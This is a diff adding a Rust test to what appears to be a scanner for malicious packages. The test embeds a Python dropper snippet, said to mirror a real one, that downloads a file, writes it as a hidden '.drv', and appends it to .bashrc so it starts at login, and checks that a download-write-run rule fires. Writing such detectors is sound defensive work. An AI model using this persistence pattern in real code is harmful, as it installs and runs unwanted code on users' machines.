@@ -328,3 +328,16 @@ fn code_written_in_look_alike_letters_is_read_as_python_reads_it() {
     );
     assert!(matches!(hidden.line, Some(2 | 3)), "{hidden:?}");
 }
+
+#[test]
+fn a_function_that_sets_what_it_fetched_to_start_at_login_is_a_dropper() {
+    // The shape of a real dropper (libpeshnx): download, write, and add the file to
+    // ~/.bashrc instead of starting it.
+    let source = "def rn():\n    response = urllib2.urlopen(loc)\n    d = open('.drv', 'wb')\n    \
+                  d.write(response.read())\n    brc = open('.bashrc', 'a')\n    brc.write('~/.drv &')\n";
+    let rules = rules_for(source);
+    assert!(
+        rules.iter().any(|r| r == "correlate/function-download-write-run"),
+        "{rules:?}"
+    );
+}
